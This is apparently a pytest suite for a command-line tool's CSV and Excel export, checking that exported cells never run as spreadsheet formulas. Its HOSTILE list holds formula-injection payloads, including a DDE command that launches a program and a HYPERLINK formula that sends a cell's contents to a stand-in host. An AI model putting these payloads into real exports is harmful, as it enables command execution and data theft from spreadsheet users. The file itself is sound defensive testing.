import csv
import io
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from platform_model import event
from platform_store import store_events

from facewire_cli.main import cli
from facewire_cli.output import Form, visible, write_rows
from facewire_cli.sheet import for_excel, harmless
from facewire_platform.store.writer import open_store

TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20"
HOSTILE = [
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\uff1d1+1",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "Ada;=1+1",
    "Ada; \uff20x;-1",
    '=HYPERLINK("http://x/?"&A1)',
    '";=1+1;"',
    "\x1b[2J",
    "a\n=1+1",
    "\u202egnp",
]


def runs(text: str) -> bool:
    """Whether a spreadsheet sees a formula in a cell: if `,`, or if `;` separates its columns."""
    return any(part.lstrip()[:1] in tuple(TRIGGERS) for part in [text, *text.split(";")])


def written(form: Form, *values: Any) -> str:
    out = io.StringIO()
    write_rows([{str(place): value for place, value in enumerate(values)}], form, [str(place) for place in range(len(values))], out=out)
    return out.getvalue().split("\n", 1)[1]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_spreadsheet_runs_no_text_of_a_device(text: str) -> None:
    line = written("csv", text)
    (cells,) = csv.reader(io.StringIO(line))
    assert not runs(cells[0])
    assert not runs(line)
    assert visible(line[:-1]) == line[:-1]


@given(st.text(st.sampled_from([*TRIGGERS, ";", ",", '"', "'", " ", "a", "1", "\t", "\n", "\x1b", "\u202e", "\ud800"])))
def test_any_text_is_one_harmless_cell_of_one_line(text: str) -> None:
    for form in ("csv", "excel"):
        line = written(form, text, "end")
        assert line.count("\n") == 1
        ((found, end),) = csv.reader(io.StringIO(line))
        assert end == "end"
        if form == "excel" and found.startswith('="'):
            shown = found[2:-1]
            assert found[-1] == '"'
            assert '"' not in shown.replace('""', "")
            assert not any(part.lstrip()[:1] in tuple(TRIGGERS) for part in shown.split(";")[1:])
        else:
            assert not runs(found)


def test_numbers_stay_numbers() -> None:
    assert written("csv", -0.5, -7, True, None) == "-0.5,-7,true,\n"


@pytest.mark.parametrize("text", ["小明", "Ada Lovelace", "o'Hara", "a-b", "a;b", ""])
def test_a_name_stays_as_it_is(text: str) -> None:
    assert harmless(text) == for_excel(text) == text


@pytest.mark.parametrize("text", ["007", "00000000000000e1", "1-2", "1E5", "12345678901234567890", "\uff13", "+49 30 1", "=1", "Mar 1"])
def test_excel_keeps_leading_zeros_and_what_looks_like_a_number_or_a_day(text: str) -> None:
    assert for_excel(text) == f'="{text}"'


def test_a_formula_of_ours_holds_no_quote_and_no_more_than_excel_takes() -> None:
    assert for_excel('1"&A1&"') == '="1""&A1&"""'
    assert for_excel("0" * 256) == "0" * 256
    assert for_excel("=" + "0" * 256) == "'=" + "0" * 256


@pytest.fixture
def database(tmp_path: Path) -> str:
    with open_store(tmp_path / "x.db") as store:
        store_events(store, "box-1", event(1)._replace(identity_id="007", identity_name="小明"), event(2)._replace(identity_id="=1+1"))
    return f"sqlite:///{tmp_path}/x.db"


@pytest.mark.parametrize(
    "command", [("events",), ("export",), ("report", "attendance", "--day", "2023-11-14", "--tz", "UTC"), ("events", "-o", "csv")]
)
def test_excel_reads_names_and_ids_of_every_command(database: str, command: tuple[str, ...]) -> None:
    done = CliRunner().invoke(cli, [*command, "--database", database, "--excel"])
    assert done.exit_code == 0, done.output
    assert done.stdout_bytes.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(done.stdout_bytes.decode("utf-8-sig"))))
    assert [(row["identity_id"], row["identity_name"]) for row in rows][:1] == [('="007"', "小明")]
    assert [row["identity_id"] for row in rows][1:] == ['="=1+1"']


def test_excel_in_a_file_has_the_byte_order_mark_too(database: str, tmp_path: Path) -> None:
    done = CliRunner().invoke(cli, ["export", "--database", database, "--excel", "--to", str(tmp_path / "x.csv")])
    assert done.exit_code == 0
    assert (tmp_path / "x.csv").read_bytes().startswith(b"\xef\xbb\xbfdevice,")


@pytest.mark.parametrize(("command", "form"), [("events", "json"), ("export", "jsonl"), ("gaps", "pretty")])
def test_excel_goes_with_no_other_form(database: str, command: str, form: str) -> None:
    done = CliRunner().invoke(cli, [command, "--database", database, "--excel", "-o", form])
    assert (done.exit_code, f"--excel writes CSV: it does not go with -o {form}" in done.stderr) == (2, True)
